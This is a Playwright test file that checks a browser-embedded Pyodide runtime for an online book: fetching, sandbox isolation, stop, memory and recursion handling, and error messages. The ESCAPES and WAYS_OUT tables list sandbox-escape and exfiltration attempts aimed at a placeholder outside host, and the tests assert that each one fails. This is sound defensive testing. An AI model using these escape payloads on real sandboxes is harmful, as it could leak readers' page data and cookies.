"""Python in the reader's browser: fetched when asked for, kept to itself, its faults told of in words."""

import http.server
import json
import re
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Error, Page, Request, Worker
from tests.site.book import pages_of

PYTHON = """async (cells) => {
    const { Python } = await import("/elements/python.js");
    const version = document.querySelector("live-cell").dataset.runtime;
    const python = (window.python ??= new Python(version));
    window.printed = "";
    const onText = (text) => (window.printed += text);
    const answers = [];
    for (const [number, source] of cells) {
        const answer = python.run(number, source, { onText });
        answers.push(await answer.catch(({ kind, message }) => ({ kind, message })));
    }
    return answers;
}"""
LOOP = "print('round')\nwhile True:\n    pass"


def run(page: Page, *sources: str) -> list[dict]:
    """What Python answers to each source, as cells 1, 2, 3 of a page that has nothing else on it."""
    return page.evaluate(PYTHON, list(enumerate(sources, start=1)))


def begin(page: Page, source: str) -> None:
    """Run a cell that will not end by itself, and wait until it prints."""
    page.evaluate(f"(cells) => {{ window.answers = ({PYTHON})(cells) }}", [[1, source]])
    page.wait_for_function("() => window.printed")


@pytest.fixture
def opened(page: Page, home: str) -> Page:
    page.goto(home + "neurons/")
    return page


@pytest.fixture(scope="module")
def started(browser: Browser, home: str) -> Iterator[Page]:
    """A page whose Python runs already, for tests that leave it running."""
    with browser.new_context(service_workers="block") as context:
        page = context.new_page()
        page.goto(home + "neurons/")
        run(page, "1")
        yield page


def test_a_cell_runs(opened: Page):
    (answer,) = run(opened, "print('hello')\n1 + 1")
    assert answer["ok"]
    assert "2" in answer["html"]
    assert opened.evaluate("window.printed") == "hello\n"


def test_numpy_and_the_books_own_packages_are_there(opened: Page):
    source = "import drawings, numpy, pencilnet\nprint(numpy.ones(2) + 1)"
    (answer,) = run(opened, source)
    assert answer["ok"], answer
    assert opened.evaluate("window.printed") == "[2. 2.]\n"


def test_chance_is_not_the_same_for_every_reader(page: Page, home: str):
    source = "import numpy.random as n, random\nprint(random.random(), n.rand(), n.default_rng().random())"
    seen = []
    for _ in range(2):
        page.goto(home + "neurons/")
        run(page, source)
        seen += page.evaluate("window.printed").split()
    assert len(set(seen)) == 6


def test_progress_is_told_in_bytes_and_comes_to_an_end(opened: Page):
    told = opened.evaluate("""async () => {
        const { Python } = await import("/elements/python.js");
        const python = new Python(document.querySelector("live-cell").dataset.runtime);
        const told = [];
        python.addEventListener("progress", ({ detail }) => told.push(detail));
        await python.start();
        await python.run(1, "import numpy");
        return told;
    }""")
    assert [step["done"] for step in told] == sorted(step["done"] for step in told)
    assert told[-1]["done"] == told[-1]["total"]
    assert {step["what"] for step in told} == {"Python", "NumPy", "the book’s library"}


# What is fetched, and when.


@pytest.fixture
def requests(page: Page) -> list[Request]:
    seen = []
    page.context.on("request", lambda request: seen.append(request))
    return seen


def test_reading_fetches_no_python_and_no_editor(page: Page, home: str, book: Path, requests: list[Request]):
    for url in pages_of(book):
        page.goto(home + url)
        page.wait_for_load_state("networkidle")
        page.mouse.wheel(0, 100_000)
        page.keyboard.press("Tab")
    fetched = [request.url for request in requests if re.search("/runtime/|sandbox|worker.js", request.url)]
    assert [url for url in fetched if "service-worker.js" not in url] == []
    assert len(requests) > len(pages_of(book))


FETCHED = """() => {
    const { loadEventEnd } = performance.getEntriesByType("navigation")[0];
    const file = ({ name, startTime }) => [name.split("/elements/")[1], startTime > loadEventEnd];
    return Object.fromEntries(performance.getEntriesByType("resource").map(file).filter(([name]) => name));
}"""


def test_what_a_page_does_is_fetched_once_it_has_loaded_and_nothing_for_elements_it_has_not(
    page: Page, home: str, book: Path
):
    """On a page of each kind, by the elements that it has."""
    script = (book / "elements" / "elements.js").read_text("utf-8")
    elements = dict(re.findall(r'"(\w+-\w+)": .*? import\("\./(.+?\.js)"\)', script))
    kinds = {
        frozenset(name for name in elements if built.main.xpath(f".//{name}")): url
        for url, built in pages_of(book).items()
    }
    assert frozenset() in kinds
    assert any("live-cell" in has for has in kinds)
    for has, url in kinds.items():
        page.goto(home + url)
        fetched = page.evaluate(FETCHED)
        assert {file for file, late in fetched.items() if not late} == {"elements.js"}, url
        assert set(elements.values()) & set(fetched) == {elements[name] for name in has}, url


def test_running_asks_no_other_site_and_fetches_no_editor(opened: Page, home: str, requests: list[Request]):
    run(opened, "import numpy, pencilnet, drawings, random, json\nnumpy.ones(3)")
    urls = [request.url for request in requests]
    assert [url for url in urls if "pyodide.asm.wasm" in url]
    assert [
        url for url in urls if not url.startswith((home, f"blob:{home}", "blob:null/", "data:", "about:"))
    ] == []
    assert [url for url in urls if "editor.js" in url] == []


# Nothing gets out.


@pytest.fixture
def outside() -> Iterator[tuple[str, list[str]]]:
    """Another site, and what it was asked for."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET

        def log_message(self, *arguments: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


SEEN = "document.title + document.cookie + location + document.querySelector('article').outerHTML"
ESCAPES = {
    "the page": "import js\njs.document",
    "a name of the page": "from js import fetch",
    "code in JavaScript": "from pyodide.code import run_js\nrun_js('fetch(\"http://OUTSIDE/\")')",
    "a function made of text": """
from pyodide.ffi import to_js
to_js([1]).constructor.constructor('return fetch("http://OUTSIDE/")')()""",
    "a function made of text, by what prints": """
import sys
sys.stdout._emit.constructor('return fetch("http://OUTSIDE/")')()""",
    "Pyodide itself": """
import pyodide_js
pyodide_js._module.HEAP8.constructor.constructor('return fetch("http://OUTSIDE/")')()""",
    "a package from elsewhere": """
import pyodide_js
pyodide_js.loadPackage('http://OUTSIDE/package-1.0-py3-none-any.whl')
1 / 0  # it would go on by itself""",
    "Pyodide's own way to fetch": "from pyodide.http import open_url\nopen_url('http://OUTSIDE/')",
    "the standard library": "from urllib.request import urlopen\nurlopen('http://OUTSIDE/')",
    "a socket": """
import socket
host, port = 'OUTSIDE'.split(':')
socket.create_connection((host, int(port)), timeout=5).send(b'GET / HTTP/1.0\\r\\n\\r\\n')""",
    "a script by way of C": """
import ctypes
ctypes.CDLL(None).emscripten_run_script(b'fetch("http://OUTSIDE/")')""",
    "another program": "import subprocess\nsubprocess.run(['curl', 'http://OUTSIDE/'])",
}


@pytest.mark.parametrize("way", ESCAPES)
def test_there_is_no_way_out_of_python(started: Page, outside: tuple[str, list[str]], way: str):
    address, asked = outside
    before = started.evaluate(SEEN)
    (answer,) = run(started, ESCAPES[way].replace("OUTSIDE", address))
    assert not answer.get("ok"), answer
    assert run(started, "import numpy\nnumpy.ones(1)")[0]["ok"]
    assert asked == []
    assert started.evaluate(SEEN) == before


WAYS_OUT = {
    "fetch": "fetch('http://OUTSIDE/')",
    "fetch from the book": "fetch('HOME')",
    "an old request": "waited(Object.assign(new XMLHttpRequest(), { method: 'GET' }), 'onload', 'onerror',"
    " (request) => { request.open('GET', 'http://OUTSIDE/'); request.send(); })",
    "a socket": "waited(new WebSocket('ws://OUTSIDE/'), 'onopen', 'onerror')",
    "a stream of events": "waited(new EventSource('http://OUTSIDE/'), 'onopen', 'onerror')",
    "a picture": "waited(new Image(), 'onload', 'onerror', (image) => { image.src = 'http://OUTSIDE/'; })",
    "a beacon": "(() => { navigator.sendBeacon('http://OUTSIDE/'); throw 'nobody says whether it went'; })()",
    "a module": "import('http://OUTSIDE/module.js')",
    "storage": "localStorage.length",
    "a database": "waited(indexedDB.open('x'), 'onsuccess', 'onerror')",
    "a cache": "caches.open('x')",
    "a cookie": "document.cookie",
    "the page": "parent.document.title",
    "leaving": "(() => { top.location = 'http://OUTSIDE/'; })()",
}
"""JavaScript that no reader can run, but should they: what holds then is the browser itself."""


TRIED = """async () => {
    const waited = (what, good, bad, begin = () => {}) => new Promise((resolve, reject) => {
        Object.assign(what, { [good]: resolve, [bad]: reject });
        begin(what);
    });
    try { await SCRIPT; return "it ran"; } catch (error) { return `${error}`; }
}"""


@pytest.mark.parametrize("way", WAYS_OUT)
def test_the_frame_around_python_has_no_way_out_either(
    started: Page, home: str, outside: tuple[str, list[str]], way: str
):
    address, asked = outside
    script = WAYS_OUT[way].replace("OUTSIDE", address).replace("HOME", home)
    assert started.frames[1].evaluate(TRIED.replace("SCRIPT", script)) != "it ran"
    assert asked == []


FORGOTTEN = (
    *("Blob", "BroadcastChannel", "EventSource", "FileReader", "Notification", "Request", "Response", "URL"),
    *("WebSocket", "WebTransport", "Worker", "XMLHttpRequest", "caches", "close", "fetch"),
    *("importScripts", "indexedDB", "location", "navigator", "postMessage", "open"),
)


def pythons(page: Page) -> list[Worker]:
    """Its workers but for the search's."""
    return [worker for worker in page.workers if worker.url.startswith("blob:")]


def test_the_worker_has_forgotten_what_could_reach_out(opened: Page):
    run(opened, "import numpy")
    (worker,) = pythons(opened)
    assert worker.evaluate("(names) => names.filter((name) => name in self)", FORGOTTEN) == []
    assert worker.evaluate("'WebAssembly' in self")


def test_nobody_else_can_use_the_frame(page: Page, home: str):
    """Opened by itself, with the site's own origin, it runs nothing that it is sent."""
    page.goto(home + "elements/sandbox.html")
    answered = page.evaluate("""() => new Promise((resolve) => {
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = () => resolve(true);
        postMessage("1", "*", [port2, new MessageChannel().port1]);
        setTimeout(resolve, 500, false);
    })""")
    assert answered is False
    assert pythons(page) == []


# Faults.


def test_stop_ends_an_endless_loop_and_the_next_run_starts_afresh(opened: Page):
    begin(opened, LOOP)
    assert opened.evaluate("python.running")
    opened.evaluate("python.stop()")
    assert opened.evaluate("answers") == [{"kind": "stopped", "message": "Stopped."}]
    opened.wait_for_function("() => !document.querySelector('iframe')")
    assert pythons(opened) == []
    generation = opened.evaluate("python.generation")
    assert run(opened, "40 + 2")[0]["ok"]
    assert opened.evaluate("python.generation") == generation + 1


def test_stop_while_it_is_loading(opened: Page):
    ended = opened.evaluate("""async () => {
        const { Python } = await import("/elements/python.js");
        window.python = new Python(document.querySelector("live-cell").dataset.runtime);
        const ends = [python.start(), python.run(1, "1")].map((end) => end.catch(({ kind }) => kind));
        python.stop();
        return Promise.all(ends);
    }""")
    assert ended == ["stopped", "stopped"]
    assert run(opened, "1")[0]["ok"]


def test_four_gigabytes_are_refused_and_the_names_are_kept(opened: Page):
    kept, a_list, an_array, after = run(
        opened, "kept = 'kept'", "[0] * 10**9", "import numpy\nnumpy.ones(5 * 10**8)", "kept"
    )
    assert kept["ok"]
    assert a_list["error"]["kind"] == "MemoryError"
    # Where a size has 32 bits NumPy calls this a ValueError; to the reader it is the same.
    assert an_array["error"]["plain"] == a_list["error"]["plain"]
    assert "kept" in after["html"]


def test_memory_that_fills_up_bit_by_bit_is_reported(opened: Page):
    source = "import numpy\nheap = []\nwhile True:\n    heap.append(numpy.ones(2**24))"
    refused, after = run(opened, source, "1 + 1")
    assert refused.get("kind") == "died" or refused["error"]["kind"] == "MemoryError", refused
    assert after["ok"]


UNLIMITED = "import sys\nsys.setrecursionlimit(10**9)\n"
RECURSIONS = {
    "plain": "def down(n):\n    return down(n + 1)\ndown(0)",
    "through C": "def down(n):\n    return max(n, n, key=down)\ndown(0)",
    "without a limit": f"{UNLIMITED}def down(*numbers):\n    return down(*numbers, 0)\ndown()",
    "without a limit, through C": f"{UNLIMITED}def down(n):\n    return max(n, n, key=down)\ndown(0)",
    "in a pattern": "import re\nre.match('(' * 5000 + ')' * 5000, '')",
    "in a source": "eval('-' * 100_000 + '1')",
}


@pytest.mark.parametrize("kind", RECURSIONS)
def test_recursion_to_the_limit_is_reported_and_python_goes_on(opened: Page, kind: str):
    failed, after = run(opened, RECURSIONS[kind], "1 + 1")
    if "kind" in failed:
        assert failed["kind"] == "died"
        assert "Press Run" in failed["message"]
    else:
        assert failed["error"]["kind"] in {"RecursionError", "MemoryError"}, failed
    assert after["ok"]


def test_after_a_worker_is_killed_stop_and_run_still_work(opened: Page):
    """No browser tells a page that its worker is gone; Stop does not depend on being told."""
    begin(opened, LOOP)
    opened.frames[1].evaluate("python.terminate()")
    opened.evaluate("python.stop()")
    assert opened.evaluate("answers")[0]["kind"] == "stopped"
    assert run(opened, "1")[0]["ok"]


def test_a_frame_that_the_browser_ends_is_noticed(opened: Page, home: str):
    """As when the device is out of memory: Python's process is gone, and the page lives."""
    begin(opened, LOOP)
    opened.evaluate("""() => {
        answers.then(async ([{ kind }]) => {
            const { ok } = await python.run(1, "1");
            localStorage.setItem("ended", `${kind}, and the next run is ok: ${ok}`);
        });
    }""")
    other = opened.context.new_page()  # Playwright gives a page up of which one process has crashed
    other.goto(home + "neurons/")
    with pytest.raises(Error, match="closed"):
        opened.context.new_cdp_session(opened.frames[1]).send("Page.crash")
    other.wait_for_function("() => localStorage.ended")
    assert other.evaluate("localStorage.ended") == "died, and the next run is ok: true"


def test_wasm_refused_by_policy(copied, page: Page):
    policy = "script-src 'self' 'unsafe-inline' blob:"
    with copied(headers={"": {"Content-Security-Policy": policy}}) as address:
        page.goto(address + "neurons/")
        (answer,) = run(page, "1")
    assert answer["kind"] == "refused"
    assert "Chrome, Firefox or Safari" in answer["message"]


def test_workers_refused_by_policy(copied, page: Page):
    policy = "script-src 'self' 'unsafe-inline' blob: 'wasm-unsafe-eval'; worker-src 'none'"
    with copied(headers={"": {"Content-Security-Policy": policy}}) as address:
        page.goto(address + "neurons/")
        (answer,) = run(page, "1")
    assert answer["kind"] == "refused"


def test_frames_refused_by_policy(copied, page: Page):
    with copied(headers={"": {"Content-Security-Policy": "script-src 'self' 'unsafe-inline'"}}) as address:
        page.goto(address + "neurons/")
        (answer,) = run(page, "1")
    assert answer["kind"] == "refused"


@pytest.mark.parametrize(
    "name", ["manifest.json", "memory.gzip", "pyodide.asm.wasm.gzip", "numpy.zip.gzip", "book.zip.gzip"]
)
def test_a_file_that_is_missing_is_named(copied, page: Page, name: str):
    with copied(lambda folder: (folder / "runtime" / name).unlink()) as address:
        page.goto(address + "neurons/")
        (answer,) = run(page, "import numpy")
    assert answer["kind"] == "missing"
    assert name in answer["message"]
    assert "404" in answer["message"]


@pytest.mark.parametrize("name", ["sandbox.html", "worker.js"])
def test_a_part_of_the_machinery_that_is_missing_is_named(copied, page: Page, name: str):
    with copied(lambda folder: (folder / "elements" / name).unlink()) as address:
        page.goto(address + "neurons/")
        (answer,) = run(page, "1")
    assert answer["kind"] == "missing"
    assert name in answer["message"]


@pytest.mark.parametrize("name", ["memory.gzip", "pyodide.asm.js.gzip", "numpy.zip.gzip"])
def test_a_file_that_is_not_what_the_book_was_built_with_is_named(copied, page: Page, name: str):
    def spoil(folder: Path) -> None:
        file = folder / "runtime" / name
        content = bytearray(file.read_bytes())
        content[len(content) // 2] ^= 1
        file.write_bytes(content)

    with copied(spoil) as address:
        page.goto(address + "neurons/")
        (answer,) = run(page, "import numpy")
    assert answer["kind"] == "corrupted"
    assert name in answer["message"]


def test_a_page_of_an_older_build_asks_to_be_reloaded(copied, page: Page):
    def update(folder: Path) -> None:
        file = folder / "runtime" / "manifest.json"
        file.write_text(json.dumps(json.loads(file.read_bytes()) | {"version": "000000000000"}), "utf-8")

    with copied(update) as address:
        page.goto(address + "neurons/")
        (answer,) = run(page, "1")
    assert answer["kind"] == "updated"
    assert "Reload" in answer["message"]


def test_after_a_fault_the_next_run_tries_again(opened: Page):
    opened.route("**/runtime/memory.gzip*", lambda route: route.abort())
    assert run(opened, "1")[0]["kind"] == "missing"
    opened.unroute("**/runtime/memory.gzip*")
    assert run(opened, "1")[0]["ok"]
